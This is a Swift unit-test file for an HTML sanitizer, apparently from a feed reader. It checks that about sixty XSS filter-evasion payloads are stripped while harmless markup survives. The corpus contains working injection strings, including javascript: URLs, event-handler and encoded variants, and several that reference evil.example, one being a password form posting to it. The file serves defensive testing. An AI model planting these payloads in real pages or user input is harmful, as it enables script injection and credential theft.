import FeedHTML
import FeedModel
import Foundation
import XCTest

final class SanitizerTests: XCTestCase {
    /// Hostile inputs in the style of the XSS filter-evasion cheat sheets, written for these tests.
    static let hostile: [String] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
        "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=x onerror=alert(1)>",
        "<img src=x ONERROR=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<body onload=alert(1)>text</body>",
        "<div style=\"background:url(javascript:alert(1))\">styled</div>",
        "<div style=\"width: expression(alert(1));\">ie</div>",
        "<style>body{background:url(javascript:alert(1))}</style><p>after style</p>",
        "<iframe src=\"http://evil.example/\"></iframe>",
        "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
        "<object type=\"text/x-scriptlet\" data=\"http://evil.example/scriptlet.html\"></object>",
        "<embed src=\"http://evil.example/xss.swf\" AllowScriptAccess=\"always\"></embed>",
        "<form action=\"http://evil.example/steal\"><input name=password type=password><button>Go</button></form>",
        "<base href=\"javascript:alert(1)//\"><a href=\"relative\">rel</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert(1);\">",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>svg link</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<SCRIPT>alert(1);//<</SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<a href=\"#\" onclick=\"alert(1)\">click</a>",
        "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
        "<table background=\"javascript:alert(1)\"><tr><td>cell</td></tr></table>",
        "<video poster=javascript:alert(1)//></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        "<p title=\"\"><script>alert(1)</script>\">quoted</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<!--<script>alert(1)</script>-->comment",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<a href=\"http://example.com/\" target=\"_blank\" id=\"clobber\" name=\"x\">ok</a>",
        "<p id=\"x\" class=\"y\" data-x=\"1\" style=\"color:red\">attrs</p>",
        "<xml><script>alert(1)</script></xml>",
        "<img src=\"http://example.com/a.png\" srcset=\"javascript:alert(1) 1x, http://example.com/b.png 2x\">",
        "<a href=\"\u{1}javascript:alert(1)\">ctl</a>",
        "<a href=\"java\u{0}script:alert(1)\">nul</a>",
        "\u{1B}[31mred\u{1B}[0m <b>bold</b>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<applet code=\"evil.class\"></applet>",
        "<isindex action=javascript:alert(1) type=image>",
        "<a href=\"  JAVASCRIPT:alert(1)\">upper</a>",
        "<img src=\"  data:image/png;base64,iVBORw0KGgo=\" onload=\"x\">",
    ]

    private static let forbiddenTags = [
        "<script", "<style", "<iframe", "<frame", "<object", "<embed", "<applet", "<form", "<input",
        "<button", "<textarea", "<base", "<meta", "<link", "<svg", "<math", "<template", "<isindex",
    ]

    func testHostileCorpusIsDefused() throws {
        let tagPattern = try NSRegularExpression(pattern: "<[^>]*>")
        for input in Self.hostile {
            let output = HTMLSanitizer.sanitize(input, baseURL: "https://example.com/post/")
            let lower = output.lowercased()
            for tag in Self.forbiddenTags {
                XCTAssertFalse(lower.contains(tag), "\(tag) survived in \(output.debugDescription) from \(input.debugDescription)")
            }
            let range = NSRange(lower.startIndex..., in: lower)
            for match in tagPattern.matches(in: lower, range: range) {
                guard let tagRange = Range(match.range, in: lower) else { continue }
                let tag = String(lower[tagRange])
                XCTAssertNil(tag.range(of: "\\son[a-z]+=", options: .regularExpression), "\(tag) from \(input)")
                XCTAssertNil(tag.range(of: "=\"?\\s*(javascript|vbscript):", options: .regularExpression), "\(tag) from \(input)")
                XCTAssertFalse(tag.contains("style="), "\(tag) from \(input)")
                XCTAssertFalse(tag.contains("data:text"), "\(tag) from \(input)")
                XCTAssertFalse(tag.contains("svg+xml"), "\(tag) from \(input)")
                XCTAssertFalse(tag.contains(" id="), "\(tag) from \(input)")
            }
            XCTAssertFalse(output.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" && $0 != "\t" && $0 != "\r" })
            // Sanitizing sanitized output changes nothing.
            XCTAssertEqual(HTMLSanitizer.sanitize(output, baseURL: "https://example.com/post/"), output, input)
        }
    }

    func testKeepsHarmlessMarkupAndText() {
        let input = """
            <h2>Title &amp; more</h2><p>Caf&eacute;&nbsp;time <em>now</em> &lt;tag&gt; <a href="/about" title="About us">about</a></p>\
            <ul><li>one</li><li>two</li></ul><blockquote cite="q.html">quoted</blockquote>\
            <pre>  code\n    indented</pre><img src="img/a.png" alt="An &quot;image&quot;" width="10">
            """
        let output = HTMLSanitizer.sanitize(input, baseURL: "https://example.com/blog/post.html")
        XCTAssertEqual(
            output,
            "<h2>Title &amp; more</h2><p>Caf\u{E9}\u{A0}time <em>now</em> &lt;tag&gt; "
                + "<a href=\"https://example.com/about\" title=\"About us\">about</a></p>"
                + "<ul><li>one</li><li>two</li></ul><blockquote cite=\"https://example.com/blog/q.html\">quoted</blockquote>"
                + "<pre>  code\n    indented</pre>"
                + "<img src=\"https://example.com/blog/img/a.png\" alt=\"An &quot;image&quot;\" width=\"10\">")
    }

    func testRemovedElementsLoseTheirContentUnknownOnesKeepIt() {
        XCTAssertEqual(HTMLSanitizer.sanitize("<p>a<script>bad()</script>b</p>", baseURL: nil), "<p>ab</p>")
        XCTAssertEqual(HTMLSanitizer.sanitize("<p><blink>still</blink> here</p>", baseURL: nil), "<p>still here</p>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<style>p{}</style><p>after</p>", baseURL: nil), "<p>after</p>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<form><label>Name</label><input value=x></form>", baseURL: nil), "Name")
    }

    func testURLs() {
        let base = "https://example.com/a/b/page.html"
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<a href=\"../c?x=1&amp;y=2#frag\">l</a>", baseURL: base),
            "<a href=\"https://example.com/a/c?x=1&amp;y=2#frag\">l</a>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<a href=\"#top\">l</a>", baseURL: base), "<a href=\"#top\">l</a>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<a href=\"mailto:a@example.com\">m</a>", baseURL: base),
            "<a href=\"mailto:a@example.com\">m</a>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<a href=\"relative.html\">r</a>", baseURL: nil),
            "<a href=\"relative.html\">r</a>")
        XCTAssertEqual(HTMLSanitizer.sanitize("<a href=\"javascript:x()\">j</a>", baseURL: base), "<a>j</a>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<img src=\"data:image/png;base64,AAAA\" alt=\"\">", baseURL: base),
            "<img src=\"data:image/png;base64,AAAA\" alt=\"\">")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<a href=\"data:image/png;base64,AAAA\">d</a>", baseURL: base), "<a>d</a>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<img srcset=\"s.png 1x, //cdn.example.net/l.png 2x\">", baseURL: base),
            "<img srcset=\"https://example.com/a/b/s.png 1x, https://cdn.example.net/l.png 2x\">")
    }

    func testMetaCharsetCannotChangeTheDecoding() {
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<meta charset='iso-8859-1'><p>café 日本</p>", baseURL: nil), "<p>café 日本</p>")
        XCTAssertEqual(
            HTMLSanitizer.sanitize("<p>x</p><meta http-equiv='Content-Type' content='text/html; charset=utf-16'><p>é</p>", baseURL: nil),
            "<p>x</p><p>é</p>")
    }

    func testPlainTextAndEmptyInput() {
        XCTAssertEqual(HTMLSanitizer.sanitize("", baseURL: nil), "")
        XCTAssertEqual(HTMLSanitizer.sanitize("just text & more", baseURL: nil), "just text &amp; more")
        XCTAssertEqual(HTMLSanitizer.sanitize("<script>x</script>", baseURL: nil), "")
    }

    func testDeepNestingAndLargeInputStayBounded() {
        let deep = String(repeating: "<div>", count: 20_000) + "deep text" + String(repeating: "</div>", count: 20_000)
        let output = HTMLSanitizer.sanitize(deep, baseURL: nil)
        XCTAssertTrue(output.contains("deep text"))
        XCTAssertLessThanOrEqual(output.components(separatedBy: "<div>").count - 1, 128)
        XCTAssertEqual(output.components(separatedBy: "<div>").count, output.components(separatedBy: "</div>").count)

        var big = ""
        for index in 0..<2_000 {
            big += "<p onclick=x>Paragraph \(index) &amp; <a href=\"/p/\(index)\">link</a><script>s()</script></p>"
        }
        let result = HTMLSanitizer.sanitize(big, baseURL: "https://example.com/")
        XCTAssertTrue(result.contains("<a href=\"https://example.com/p/1999\">link</a>"))
        XCTAssertFalse(result.contains("onclick"))
    }

    func testRandomBytesNeverCrash() {
        var generator = DateFuzzRandom(seed: 42)
        // Tag soup: the output is safe, and sanitizing it again changes nothing.
        let pieces = [
            "<", ">", "</", "a", "p", "script", "=", "\"", "'", "&", "#", ";", "x", " ", "!--", "\u{0}", "é", "href", "on",
            "embed", "li", "ul", "table", "td", "div", "br", "object", "iframe", "pre", "\n", "b", "<!DOCTYPE html>",
            "<html>", "<body>", "<head>", "title", "</p>", "<p>", "\t", "<![CDATA[", "]]>", "option", "noscript",
            "textarea", "&nbsp;", "<li>", "<td>", "<tr>", "<table>", "<h1>", "<a href=x>", "</a>", "<b>", "</b>",
            "<form>", "<embed>", "<img src=y>", "<hr>", "<source>", "<wbr>", "<col>",
        ]
        for _ in 0..<3_000 {
            var input = ""
            for _ in 0..<Int(generator.next() % 60) { input += pieces[Int(generator.next() % UInt64(pieces.count))] }
            let output = HTMLSanitizer.sanitize(input, baseURL: "https://example.com/")
            XCTAssertFalse(output.lowercased().contains("<script"))
            XCTAssertEqual(HTMLSanitizer.sanitize(output, baseURL: "https://example.com/"), output, input.debugDescription)
        }
    }
}
